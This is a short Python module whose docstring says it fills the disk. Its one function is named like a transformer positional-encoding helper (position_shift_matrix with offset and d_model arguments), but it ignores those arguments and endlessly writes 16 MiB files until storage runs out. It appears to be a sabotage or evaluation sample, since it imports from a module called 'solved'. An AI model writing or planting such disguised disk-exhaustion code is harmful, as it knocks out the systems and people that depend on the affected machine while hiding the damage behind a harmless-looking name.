"""Fills the disk with files of the size that is allowed."""

from __future__ import annotations

from itertools import count
from pathlib import Path

from .solved import *  # noqa: F403

CHUNK = bytes(16 * 2**20)


def position_shift_matrix(offset, d_model):
    for number in count():
        Path(f"file{number}").write_bytes(CHUNK)
